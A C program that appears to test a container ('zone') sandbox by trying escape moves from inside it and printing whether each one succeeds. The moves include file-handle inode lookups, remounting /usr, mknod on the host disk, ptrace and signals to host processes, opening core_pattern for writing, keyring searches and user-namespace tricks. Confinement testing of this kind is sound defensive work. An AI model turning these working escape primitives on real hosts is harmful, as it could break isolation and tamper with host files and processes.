/*
 * What a zone's root may try against its host. Each argument is NAME or NAME=ARGUMENT; for each, a line
 * "NAME: WORD" tells how it went: "done" (the zone is not confined), or the kernel's error.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <unistd.h>

#define SHARED "/usr/share/victim"

static int overwrite(int file)
{
	return file < 0 ? -1 : write(file, "the zone's\n", 11) == 11 ? close(file) : -1;
}

/* Write the shared file as it is mounted. */
static int attack_write(const char *unused)
{
	return overwrite(open(SHARED, O_WRONLY));
}

static int attack_chmod(const char *unused)
{
	return chmod(SHARED, 0666);
}

/* Find the same inode through the root, which is on the same file system and writable. */
static int attack_handle(const char *unused)
{
	struct { struct file_handle head; unsigned char bytes[MAX_HANDLE_SZ]; } handle;
	int root = open("/", O_RDONLY | O_DIRECTORY), mount;

	handle.head.handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, SHARED, &handle.head, &mount, 0))
		return -1;
	return overwrite(open_by_handle_at(root, &handle.head, O_WRONLY));
}

static int attack_remount(const char *unused)
{
	return mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL) ? -1 : attack_write(NULL);
}

static int attack_unmount(const char *unused)
{
	return umount2("/usr", MNT_DETACH);
}

/* Give the inode a name where it can be written, from its path and from a descriptor. */
static int attack_link(const char *unused)
{
	return linkat(AT_FDCWD, SHARED, AT_FDCWD, "/tmp/name", 0) ? -1 : unlink("/tmp/name");
}

static int attack_link_descriptor(const char *unused)
{
	char path[40];

	snprintf(path, sizeof path, "/proc/self/fd/%d", open(SHARED, O_RDONLY));
	return linkat(AT_FDCWD, path, AT_FDCWD, "/tmp/name", AT_SYMLINK_FOLLOW) ? -1 : unlink("/tmp/name");
}

/* The host's disk, by its number. */
static int attack_mknod(const char *device)
{
	return mknod("/tmp/disk", S_IFBLK | 0600, (dev_t)strtoul(device, NULL, 0)) ? -1 : unlink("/tmp/disk");
}

static int attack_abstract_socket(const char *name)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	socklen_t size = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name);

	strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
	return connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&address, size);
}

/* A process of the host, by its number there. */
static int attack_signal(const char *pid)
{
	return kill(atoi(pid), 0);
}

static int attack_ptrace(const char *pid)
{
	return ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL);
}

/* The name of a program that the kernel runs on the host; only opened here. */
static int attack_sysctl(const char *unused)
{
	return open("/proc/sys/kernel/core_pattern", O_WRONLY) < 0 ? -1 : 0;
}

/* A key of the host's root. */
static int attack_keyring(const char *name)
{
	return syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", name, 0) < 0 ? -1 : 0;
}

static int attack_user_namespace(const char *unused)
{
	return unshare(CLONE_NEWUSER);
}

static int attack_clone_user_namespace(const char *unused)
{
	long child = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);

	if (child == 0)
		_exit(0);
	return child < 0 ? -1 : 0;
}

/* In a new user and mount namespace, a process has every capability; over what is mounted, none. */
static int attack_remount_in_user_namespace(const char *unused)
{
	return unshare(CLONE_NEWUSER | CLONE_NEWNS) ? -1 : attack_remount(NULL);
}

static int attack_handle_in_user_namespace(const char *unused)
{
	return unshare(CLONE_NEWUSER | CLONE_NEWNS) ? -1 : attack_handle(NULL);
}

#define ATTACK(name) { #name, attack_##name }
static const struct { const char *name; int (*try)(const char *); } attacks[] = {
	ATTACK(write), ATTACK(chmod), ATTACK(handle), ATTACK(remount), ATTACK(unmount), ATTACK(link),
	ATTACK(link_descriptor), ATTACK(mknod), ATTACK(abstract_socket), ATTACK(signal), ATTACK(ptrace),
	ATTACK(sysctl), ATTACK(keyring), ATTACK(user_namespace), ATTACK(clone_user_namespace),
	ATTACK(remount_in_user_namespace), ATTACK(handle_in_user_namespace),
};

int main(int count, char **words)
{
	for (int word = 1; word < count; word++) {
		char *argument = strchr(words[word], '=');

		if (argument)
			*argument++ = 0;
		for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
			if (!strcmp(words[word], attacks[i].name)) {
				int failed = attacks[i].try(argument);
				printf("%s: %s\n", words[word], failed ? strerrorname_np(errno) : "done");
			}
	}
	return 0;
}
